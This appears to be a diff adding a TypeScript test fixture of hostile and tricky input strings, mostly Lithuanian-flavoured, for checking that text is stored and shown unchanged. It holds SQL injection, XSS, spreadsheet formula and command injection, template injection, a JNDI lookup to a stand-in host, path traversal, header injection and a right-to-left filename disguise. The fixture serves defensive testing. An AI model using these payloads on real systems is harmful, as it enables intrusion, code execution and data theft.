@@ -1,0 +1,20 @@
+// Text that means harm elsewhere is text here: it is stored as it was typed and shown as it was stored.
+export const HARMLESS: readonly [what: string, typed: string, kept?: string][] = [
+  ['SQL', "Robertas'); drop table loan_request; --"],
+  ['markup', '<script>alert("labas")</script><img src=x onerror=alert(1)>'],
+  ['a formula of a spreadsheet', '=HYPERLINK("http://example.test";"Spauskite")'],
+  ['a command of a spreadsheet', "@SUM(1+1)*cmd|' /C calc'!A0"],
+  ['a template', '${7*7} {{7*7}} <%= 7*7 %> #{7*7}'],
+  ['a look-up of a logger', '${jndi:ldap://example.test/a}'],
+  ['a path', '../../../etc/passwd'],
+  ['percent signs', '%s%n%x %00 %0d%0a'],
+  ['line breaks of a header', 'Pirma eilutė\nSet-Cookie: a=b\nAntra'],
+  ['quotes of every kind', `„lietuviškos“ "tiesios" 'vienos' \`atvirkščios\` «kampinės»`],
+  ['letters of other scripts', 'Żółć Ёлка 你好 مرحبا'],
+  ['a family', 'Ūkis 👩‍👩‍👧 ir 🇱🇹'],
+  ['NUL and bells', 'prieš\u0000po\u0007galo', 'priešpogalo'],
+  ['half of a character', 'prieš\ud800po', 'priešpo'],
+  ['text turned around', 'sąskaita\u202efdp.exe', 'sąskaitafdp.exe'],
+  ['marks that are not seen', 'pa\u200bslėp\u2066ta\u2069', 'paslėpta'],
+  ['letters put together from parts', 'Zˇuolas'.replace('ˇ', '\u030c'), 'Žuolas'],
+];
